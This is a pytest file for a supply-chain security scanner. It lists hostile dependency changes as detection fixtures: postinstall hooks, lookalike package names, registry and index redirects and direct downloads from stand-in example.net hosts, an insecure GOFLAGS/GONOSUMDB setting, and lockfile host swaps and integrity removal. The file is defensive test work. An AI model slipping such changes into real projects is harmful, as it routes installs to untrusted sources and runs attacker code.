"""Dependencies and registries turned against their owners."""

from __future__ import annotations

import pytest

from rules.finding import Severity
from tests.rules.kit import Hostile, ci, edit, judged, new_file

SHA = "b4ffde65f46336ab88eb53be808477a3936bae11"
HEAD = (
    "name: x\non: push\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
    f"      - uses: actions/checkout@{SHA} # v4.1.1\n"
)
WORKFLOW = ".github/workflows/x.yml"
PACKAGE = (
    '{\n  "name": "k",\n  "scripts": {\n    "test": "x"\n  },\n  "dependencies": {\n    "undici": "6.19.8"\n  }\n}\n'
)
LOCK = """\
{
"name":"k",
"lockfileVersion":3,
"packages":{
"":{
"dependencies":{
"undici":"6.19.8"}},
"node_modules/undici":{
"version":"6.19.8",
"resolved":"https://registry.npmjs.org/undici/-/undici-6.19.8.tgz",
"integrity":"sha512-aaa"}}}
"""

HOSTILE: dict[str, Hostile] = {
    "postinstall nested package": Hostile(
        edit(
            "packages/a/package.json",
            PACKAGE,
            PACKAGE.replace('"test": "x"', '"test": "x",\n    "postinstall": "node s.js"'),
        ),
        "install-script-added",
        Severity.HIGH,
    ),
    "npm alias": Hostile(
        edit("package.json", PACKAGE, PACKAGE.replace('"6.19.8"', '"npm:undlci@6.19.8"')),
        "dependency-redirect lookalike-name",
        Severity.HIGH,
    ),
    "pnpm overrides yaml": Hostile(
        edit("pnpm-workspace.yaml", "packages: [a]\n", "packages: [a]\noverrides:\n  undici: npm:undlci@6.19.8\n"),
        "dependency-redirect",
        Severity.HIGH,
    ),
    "github shorthand": Hostile(
        edit("package.json", PACKAGE, PACKAGE.replace('"6.19.8"', '"shoal/undici#main"')),
        "git-dependency",
        Severity.HIGH,
    ),
    "tarball": Hostile(
        edit("package.json", PACKAGE, PACKAGE.replace('"6.19.8"', '"https://get.example.net/u.tgz"')),
        "git-dependency",
        Severity.HIGH,
    ),
    "req extra index": Hostile(
        edit(
            "requirements/dev.txt",
            "httpx==0.27.0\n",
            "--extra-index-url https://pypi.example.net/simple\nhttpx==0.27.0\n",
        ),
        "registry-changed",
        Severity.HIGH,
    ),
    "req direct url": Hostile(
        edit("requirements.txt", "httpx==0.27.0\n", "httpx @ https://get.example.net/httpx-0.27.0.whl\n"),
        "git-dependency",
        Severity.HIGH,
    ),
    "uv index": Hostile(
        edit(
            "pyproject.toml",
            "[project]\nname='k'\n",
            "[project]\nname='k'\n[[tool.uv.index]]\nurl = 'https://pypi.example.net/simple'\n",
        ),
        "registry-changed",
        Severity.HIGH,
    ),
    "npmrc scoped registry": Hostile(
        edit(".npmrc", "save-exact=true\n", "save-exact=true\n@shoal:registry=https://npm.example.net/\n"),
        "registry-changed",
        Severity.HIGH,
    ),
    "yarnrc yml registry": Hostile(
        edit(
            ".yarnrc.yml",
            "nodeLinker: node-modules\n",
            "nodeLinker: node-modules\nnpmRegistryServer: 'https://npm.example.net'\n",
        ),
        "registry-changed",
        Severity.HIGH,
    ),
    "yarnPath": Hostile(
        edit(".yarnrc.yml", "nodeLinker: node-modules\n", "nodeLinker: node-modules\nyarnPath: .yarn/releases/y.cjs\n"),
        "package-manager-swap",
        Severity.HIGH,
    ),
    "packageManager": Hostile(
        edit(
            "package.json",
            PACKAGE,
            PACKAGE.replace('"name": "k"', '"name": "k",\n  "packageManager": "yarn@4.1.0+sha224.aaa"'),
        ),
        "package-manager-swap",
        Severity.REVIEW,
    ),
    "cargo source replace": Hostile(
        new_file(
            ".cargo/config.toml",
            "[source.crates-io]\nreplace-with = 'x'\n[source.x]\nregistry = 'https://crates.example.net'\n",
        ),
        "registry-changed",
        Severity.HIGH,
    ),
    "cargo patch": Hostile(
        edit(
            "Cargo.toml",
            '[dependencies]\nserde = "1"\n',
            "[dependencies]\nserde = \"1\"\n[patch.crates-io]\nserde = { git = 'https://git.example.net/serde' }\n",
        ),
        "dependency-redirect git-dependency",
        Severity.HIGH,
    ),
    "cargo runner": Hostile(
        new_file(".cargo/config.toml", "[build]\nrustc-wrapper = './x'\n"),
        "build-script-exec tool-config-exec",
        Severity.HIGH,
    ),
    "go replace": Hostile(
        edit(
            "go.mod",
            "module k\n\nrequire example.org/a v1.0.0\n",
            "module k\n\nrequire example.org/a v1.0.0\n\nreplace example.org/a => example.net/a v1.0.0\n",
        ),
        "dependency-redirect",
        Severity.HIGH,
    ),
    "go env GOFLAGS": Hostile(
        ci(
            HEAD,
            HEAD
            + (
                "      - run: go build ./...\n"
                "        env: {GOFLAGS: -insecure, GONOSUMDB: '*', GOPROXY: 'https://proxy.example.net'}\n"
            ),
            WORKFLOW,
        ),
        "env-injection registry-changed new-network-destination",
        Severity.HIGH,
    ),
    "gemfile source": Hostile(
        edit(
            "Gemfile", "source 'https://rubygems.org'\ngem 'rack'\n", "source 'https://gems.example.net'\ngem 'rack'\n"
        ),
        "registry-changed",
        Severity.HIGH,
    ),
    "composer repo": Hostile(
        edit(
            "composer.json",
            '{\n"require": {}\n}\n',
            '{\n"repositories": [{"type": "composer", "url": "https://p.example.net"}],\n"require": {}\n}\n',
        ),
        "registry-changed",
        Severity.HIGH,
    ),
    "nuget source": Hostile(
        edit(
            "nuget.config",
            "<configuration><packageSources></packageSources></configuration>\n",
            (
                "<configuration><packageSources>\n"
                "<add key='x' value='https://n.example.net/v3/index.json'/>\n"
                "</packageSources></configuration>\n"
            ),
        ),
        "registry-changed",
        Severity.HIGH,
    ),
    "pip conf": Hostile(
        new_file("pip.conf", "[global]\nindex-url = https://pypi.example.net/simple\n"),
        "registry-changed",
        Severity.HIGH,
    ),
    "maven mirror": Hostile(
        new_file(
            ".mvn/settings.xml",
            "<settings><mirrors><mirror><url>https://m.example.net</url></mirror></mirrors></settings>\n",
        ),
        "registry-changed",
        Severity.HIGH,
    ),
    "lock host swap": Hostile(
        edit("package-lock.json", LOCK, LOCK.replace("registry.npmjs.org", "npm.example.net")),
        "lockfile-source-swap",
        Severity.HIGH,
    ),
    "lock integrity dropped": Hostile(
        edit("package-lock.json", LOCK, LOCK.replace(',\n"integrity":"sha512-aaa"', "")),
        "lockfile-integrity-dropped",
        Severity.HIGH,
    ),
    "lookalike python": Hostile(
        edit("requirements.txt", "httpx==0.27.0\n", "httpx==0.27.0\nreqeusts==2.0\n"), "lookalike-name", Severity.HIGH
    ),
    "pre-commit repo swap": Hostile(
        edit(
            ".pre-commit-config.yaml",
            "repos:\n  - repo: https://github.com/psf/black\n    rev: 24.1.0\n    hooks: [{id: black}]\n",
            "repos:\n  - repo: https://github.com/psff/black\n    rev: 24.1.0\n    hooks: [{id: black}]\n",
        ),
        "hook-source-changed",
        Severity.HIGH,
    ),
    "terraform module source": Hostile(
        edit(
            "infra/main.tf",
            'module "a" {\n  source = "hashicorp/vpc/aws"\n}\n',
            'module "a" {\n  source = "git::https://git.example.net/vpc.git"\n}\n',
        ),
        "git-dependency dependency-redirect new-network-destination",
        Severity.HIGH,
    ),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_dependency_is_seen(what: str) -> None:
    assert judged(HOSTILE[what]) >= HOSTILE[what].severity
